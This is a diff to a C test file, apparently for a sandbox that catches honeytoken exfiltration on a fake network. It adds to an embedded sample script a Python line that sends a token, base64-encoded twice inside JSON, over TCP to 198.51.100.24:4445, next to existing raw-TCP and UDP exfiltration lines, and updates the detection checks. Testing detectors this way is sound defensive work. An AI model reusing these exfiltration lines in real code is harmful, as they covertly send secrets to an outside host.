@@ -248,6 +248,10 @@ static const char exfil_script[] =
     "s = socket.create_connection(('198.51.100.23', 4444), timeout=10)\n"
     "s.sendall(b'RAW:' + tok[::-1].encode())\n"
     "s.close()\n"
+    "import json\n"
+    "s = socket.create_connection(('198.51.100.24', 4445), timeout=10)\n"
+    "s.sendall(b'{\"d\":\"' + base64.b64encode(base64.b64encode(json.dumps({'env': {'K': tok}}).encode())) + b'\"}')\n"
+    "s.close()\n"
     "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "u.sendto(b'UDP:' + tok.encode().hex().encode(), ('203.0.113.5', 9999))\n"
     "u.close()\n"
@@ -628,6 +632,11 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
                        "reversed", "where", "tcp:198.51.100.23:4444")) != NULL,
         "reversed token over raw TCP");
 
+  CHECK(find(events, "honeytoken",
+             json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
+                       "base64/base64", "where", "tcp:198.51.100.24:4445")) != NULL,
+        "a JSON base64'd twice: decoded and scanned again");
+
   /* 4. A UDP datagram. */
   json_t *udp = find(events, "net",
                      json_pack("{s:s,s:s,s:s,s:i,s:i}", "proto", "udp",
@@ -712,7 +721,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
         "name_for(198.51.100.23) = NULL");
   struct pt_fakenet_stats st;
   pt_fakenet_stats(ctx.fn, &st);
-  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 6,
+  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 7,
         "stats: %llu connections, none refused, every socket closed",
         (unsigned long long)st.tcp_conns);
   /* Nothing but what the sample did. */
@@ -722,7 +731,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
     if (strcmp(str(e, "kind"), "net") == 0)
       nnet++;
   }
-  CHECK(nnet == 6, "exactly 6 net events (got %zu)", nnet);
+  CHECK(nnet == 7, "exactly 7 net events (got %zu)", nnet);
 
 
   /* 10. The next phase: the same fake network in a new jail. */
